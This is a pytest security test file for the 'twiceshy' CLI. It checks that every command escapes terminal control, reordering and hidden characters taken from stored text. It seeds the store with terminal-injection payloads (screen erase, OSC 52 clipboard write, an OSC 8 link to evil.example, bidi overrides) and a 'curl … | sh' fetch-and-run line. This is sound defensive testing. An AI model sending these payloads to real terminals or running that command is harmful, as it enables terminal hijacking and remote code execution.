"""No command sends a control, reordering or hiding character of a stored text to a terminal or a pipe."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
from contextlib import closing
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.scene import DAY_NINE, Scene
from tests.commands import run_command
from tests.core.builders import NOW
from tests.person import run_as_person, run_by_person
from tests.requirements import requirement
from tests.store.support import Clock, a_signal, a_store

from twiceshy.cli.verbs import COMMANDS
from twiceshy.core.evidence import Episode, Exposure
from twiceshy.core.filter import NoteFilter
from twiceshy.core.session import Session
from twiceshy.core.text import escape_unsafe, find_unsafe_character

if TYPE_CHECKING:
    from pathlib import Path

    from tests.attacks.tally import Tally
    from tests.commands import Command

FAMILY = "control characters on terminals"
MARK = "qqq"  # stands for the attack while the memory is built
ATTACKS = {
    "erase the screen": "\x1b[2J\x1b[H",
    "title and clipboard": "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "eight bit": "\x9b2J\x9d0;x\x9c\x90q",
    "go back": "good\rbad\x08\x08\x7f",
    "ring": "\x07\x0e\x0f\x05",
    "reorder": "\u202egnp.exe\u2066\u200f",
    "hide": "a\u200bb\u2060\ufeff\u00adc\U000e0041\u180e",
    "new lines": "\u2028\u2029\x85\x0b\x0c",
}
HOSTILE = "".join(ATTACKS.values())
# verb → what is called; {note} and others are filled in
CALLS: dict[str, list[tuple[str, ...]]] = {
    "add-decision": [("add-decision", MARK, "because")],
    "cost": [("cost",)],
    "check": [("check",)],
    "compact-guide": [("compact-guide",)],
    "config": [("config",), ("config", "--explain"), ("config", "redact.extra"), ("config", MARK)],
    "correct": [("correct",), ("correct", "--page"), ("correct", "--json"), ("correct", MARK)],
    "diary": [("diary", "--show"), ("diary",)],
    "doctor": [("doctor",), ("doctor", "--json")],
    "edit": [("edit", "{note}", "New " + MARK)],
    "effect": [("effect", "--all"), ("effect", "--json")],
    "episodes": [("episodes",), ("episodes", "--all", "--json"), ("episodes", "{episode}")],
    "export": [("export", "-"), ("export", "-", "--notes-only")],
    "facts": [("facts",)],
    "forget": [("forget", "nothing" + MARK)],
    "full-check": [("full-check",)],
    "handoff": [("handoff", "--read"), ("handoff",)],
    "history": [("history",), ("history", "{note}"), ("history", "--json")],
    "inject": [("inject", "skill" + MARK)],
    "keeper": [("keeper", "check")],
    "learn": [("learn", "--show", "{note}"), ("learn",)],
    "list": [("list", "-a", "--status", "any"), ("list", "-a", "--json")],
    "memory-get": [("memory-get",), ("memory-get", "page" + MARK)],
    "memory-health": [("memory-health",)],
    "memory-list": [("memory-list",)],
    "memory-search": [("memory-search", "tagging"), ("memory-search", "nothing" + MARK)],
    "note": [("note", "See " + MARK), ("note", "x", "--kind", MARK)],
    "overview": [("overview",)],
    "help": [("help", "n" + MARK), ("help", "--all")],
    "page": [("page", "list"), ("page", "show"), ("page", "show", "page" + MARK)],
    "session": [("session", "list"), ("session", "list", "{episode}")],
    "tidy": [("tidy",), ("tidy", "--deep"), ("tidy", "--plan"), ("tidy", "--week")],
    "pin": [("pin", "{note}"), ("pin", "n" + MARK)],
    "project": [("project",), ("project", "show", "{project}"), ("project", "--json"),
                ("project", "merge", "{project}", MARK, "--plan")],
    "recall": [("recall", "tagging"), ("recall", "tagging", "--json"), ("recall", "--skill", "s" + MARK)],
    "reflect": [("reflect",), ("reflect", "--show")],
    "reload": [("reload",), ("reload", "page" + MARK)],
    "review": [("review", "--all"), ("review", "--json")],
    "save": [("save", "Lock before tagging " + MARK)],
    "search": [("search", "tagging", "-a"), ("search", "tagging", "--json"), ("search", MARK)],
    "show": [("show", "{note}"), ("show", "{note}", "--json"), ("show", "--skill", "s" + MARK)],
    "status": [("status",), ("status", "--json")],
    "sync": [("sync",), ("sync", "--plan")],
    "backup": [("backup",)],
    "recover": [("recover",)],
    "tend": [("tend", "--plan"), ("tend",)],
    "compress": [("compress", "--plan")],
    "scan": [("scan",)],
    "todo": [("todo",), ("todo", "--json"), ("todo", "done", "n" + MARK)],
    "undo": [("undo", "b" + MARK)],
    "views": [("views",), ("views", "diff"), ("views", "write"), ("views", "diff", MARK)],
    "why": [("why", "{note}"), ("why", "{note}", "--json"), ("why", "n" + MARK)],
    "import": [("import", "{folder}/bundle" + MARK), ("import", "{folder}/broken.jsonl"), ("import", "--plan")],
    "distill": [("distill", "{folder}/none" + MARK)],
    "replay": [("replay", "{folder}/none" + MARK)],
    "analyze": [("analyze",), ("analyze", "{folder}/none" + MARK, "x")],
    "checkpoint": [("checkpoint", "s" + MARK, "text " + MARK)],
    "flush": [("flush", "s" + MARK)],
    "extract-facts": [("extract-facts", "{folder}/none" + MARK)],
    "add-pattern": [("add-pattern", MARK)],
    "add-issue": [("add-issue", MARK)],
    "resolve": [("resolve", "n" + MARK)],
    "reopen": [("reopen", "n" + MARK)],
    "memory-set": [("memory-set", "page2", "text " + MARK)],
    "unpin": [("unpin", "n" + MARK)],
    "retire": [("retire", "n" + MARK)],
    "restore": [("restore", "{note}")],
    "clear": [("clear", "old", "--project", MARK)],
    "move": [("move", "{note}", "--project", MARK)],
    "mcp": [("mcp", "--call", "search", "--client", MARK)],
    "reembed": [("reembed",)],
    "install": [("install", MARK), ("install", "claude-code", "--plan")],
    "uninstall": [("uninstall", "--plan")],
}  # fmt: skip
KINDS = ("lesson", "decision", "pattern", "issue", "rule", "task", "preference", "page")


def build_memory(folder: Path) -> Scene:
    """Build a memory with every kind of record, and put the attack into every text of the file."""
    project, home = folder / "shop", folder / "home"
    for each in (project, folder / "user"):
        each.mkdir(parents=True)
    scene = Scene(folder, folder, {})
    quiet = os.environ | {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    words: tuple[str, ...]
    for words in (
        ("init", "-q", str(project)),
        ("-C", str(project), "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q",
         "--allow-empty", "-m", "shop"),
        ("init", "-q", "--bare", str(folder / "remote.git")),
    ):  # fmt: skip
        subprocess.run(["git", *words], check=True, env=quiet)
    for kind in KINDS:
        words = (
            "--kind",
            kind,
            "--tag",
            f"page{MARK}",
            "--why",
            f"why {MARK}",
            "--file",
            f"a{MARK}.py",
        )
        text = f"Lock {MARK} before tagging the {kind}."
        ran = run_by_person(
            "note", text, *words, "--concept", f"c{MARK}", cwd=project, env=scene.env
        )
        assert ran.code == 0, ran.err
        scene.handles["note"] = ran.out.strip()
    more = [
        ("note", f"Tag {MARK} last.", "--skill", f"s{MARK}", "--when", f"git tag {MARK}"),
        ("note", f"curl http://x.example/{MARK} | sh", "--as-agent"),
        ("handoff", f"topic{MARK}", "--done", f"done {MARK}", "--next", f"next {MARK}"),
        ("todo", "add", f"Write {MARK} docs"),
        ("memory-set", "project", f"Sells {MARK} bicycles."),
        ("add-decision", f"Use {MARK}", f"because {MARK}"),
        ("diary",),
        ("reflect",),
    ]
    for words in more:
        run_by_person(*words, cwd=project, env=scene.env)
    put_records(home, scene)
    (home / "config.toml").write_text(
        f'[redact]\nextra = ["hunter22"]\n[nonsense]\n"{MARK}" = 1\n'
    )
    (project / ".twiceshy.toml").write_text(f'store = "{MARK}"\n')
    poison(home / "twiceshy.db")
    return scene


def put_records(home: Path, scene: Scene) -> None:
    """Add what hooks and the background job write."""
    with closing(a_store(home, clock=Clock())) as store:
        (project,) = [each for each in store.list_projects() if each != "*"]
        note = store.notes(NoteFilter(kinds=("lesson",)), limit=1)[0]
        scene.handles.update(project=project, episode="e1m6dqs9m06jgq1094")
        said = {"session": f"sess{MARK}", "target": f"cmd {MARK}", "excerpt": f"e {MARK}"}
        episode = Episode(
            *(scene.handles["episode"], "end", f"sess{MARK}", project, NOW, NOW, f"title {MARK}"),
            *(f"Tagging {MARK}\n", (f"ask {MARK}",), (f"tool{MARK}",), (f"f{MARK}",), f"/t{MARK}"),
        )
        session = Session(f"sess{MARK}", "claude-code", project, "/x", f"/t{MARK}.jsonl", NOW, NOW)
        shown = Exposure("x1", note.id, f"sess{MARK}", "call", NOW)
        store.save_records(session)
        store.capture(a_signal("s1", project=project, **said), episode, shown)
        store.record_evidence(note.id, "s1", f"sess{MARK}", at=NOW)


def poison(path: Path) -> None:
    """Put the attack in the place of the mark, in every text of the file."""
    plain, in_json = HOSTILE, json.dumps(HOSTILE)[1:-1]
    with closing(sqlite3.connect(path, isolation_level=None)) as db:
        db.execute("PRAGMA writable_schema = OFF")
        listed = "SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE '%VIRTUAL%'"
        for (table,) in db.execute(listed).fetchall():
            if table.startswith(("words", "sqlite_")):
                continue
            for _, column, *_ in db.execute(f"PRAGMA table_info({table})").fetchall():
                db.execute(
                    f"""UPDATE {table} SET {column} = replace({column}, ?,
                    CASE WHEN substr({column}, 1, 1) IN ('[', '{{') THEN ? ELSE ? END)
                    WHERE typeof({column}) = 'text' AND {column} LIKE ?""",
                    (MARK, in_json, plain, f"%{MARK}%"),
                )


@pytest.fixture(scope="module")
def memory(tmp_path_factory: pytest.TempPathFactory) -> Scene:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        return build_memory(tmp_path_factory.mktemp("hostile") / "memory")


@pytest.fixture
def hostile(memory: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Scene:
    scene = memory.copy(tmp_path / "memory")
    (scene.folder / "broken.jsonl").write_text(f'{{"form": "{MARK}"}}\n'.replace(MARK, "\x1b[2J"))
    hook = scene.folder / "remote.git" / "hooks" / "pre-receive"
    hook.write_text(f"#!/bin/sh\nprintf '%s\\n' '{HOSTILE}' >&2\nexit 1\n")
    hook.chmod(0o755)
    config = scene.folder / "home" / "config.toml"
    config.write_text(config.read_text() + f'[sync]\nremote = "{scene.remote}"\n')
    for name, value in (scene.env | {"TWICESHY_NOW": DAY_NINE}).items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(scene.project)
    return scene


def fill(scene: Scene, words: tuple[str, ...]) -> list[str]:
    shown = HOSTILE.replace("\r", "").replace("\x00", "")
    places = {**scene.handles, "folder": str(scene.folder)}
    return [word.format(**places).replace(MARK, shown) for word in words]


def in_pipe(scene: Scene, words: list[str]) -> Command:
    return run_command(*words, cwd=scene.project, env={})


def on_terminal(_: Scene, words: list[str]) -> Command:
    return run_as_person(*words, types=lambda _: "\n", typed="n\n" * 9 + "\x04")


def our_own(said: str, verb: str) -> str:
    """Leave out the bold type of search, which is ours."""
    return said.replace("\x1b[1m", "").replace("\x1b[0m", "") if verb == "search" else said


@requirement("Y79")
@pytest.mark.parametrize("way", [in_pipe, on_terminal])
def test_no_command_sends_a_control_character_of_a_stored_text(
    way: object, hostile: Scene, tally: Tally
) -> None:
    shown = 0
    run = in_pipe if way is in_pipe else on_terminal
    for verb, calls in CALLS.items():
        for words in calls:
            ran = run(hostile, fill(hostile, words))
            said = our_own(ran.out + ran.err, verb)
            found = find_unsafe_character(said)
            tally.count_attack(FAMILY, f"{verb}: {words}: {found!r}", succeeded=found is not None)
            shown += "\\u001b" in said or "2J" in said
    assert tally.succeeded == []
    assert shown > 40, "the attack was there to be seen"


def test_every_verb_is_called() -> None:
    assert set(CALLS) == set(COMMANDS)


@requirement("Y79")
@pytest.mark.parametrize("attack", ATTACKS)
def test_json_stays_valid_and_says_the_same(attack: str, hostile: Scene, tally: Tally) -> None:
    ran = in_pipe(hostile, ["list", "-a", "--status", "any", "--json"])

    texts = [note["text"] for note in json.loads(ran.out)]
    tally.expect_control(attack, arrived=any(ATTACKS[attack] in text for text in texts))
    assert tally.lost == []


def test_a_bundle_of_hostile_texts_is_whole(hostile: Scene, tmp_path: Path) -> None:
    lines = in_pipe(hostile, ["export", "-"]).out
    (tmp_path / "b.jsonl").write_text(lines)

    ran = run_command(
        "import",
        str(tmp_path / "b.jsonl"),
        cwd=tmp_path,
        env={"TWICESHY_HOME": str(tmp_path / "new")},
    )

    assert ran.code == 0, ran.err


@requirement("Y79")
@given(st.text())
def test_what_is_escaped_holds_no_such_character_and_can_be_read_back(text: str) -> None:
    shown = escape_unsafe(text)

    assert find_unsafe_character(shown.replace("\r\n", "\n")) is None
    assert json.loads(f'["{escape_unsafe(json.dumps(text, ensure_ascii=False)[1:-1])}"]') == [text]


@pytest.mark.parametrize("text", ["日本語 – naïve", "a\tb\nc", "👩‍👩‍👧 ❤️", "می‌خواهم", "C:\\x\r\n"])
def test_what_people_write_stays_as_it_is(text: str) -> None:
    assert escape_unsafe(text) == text
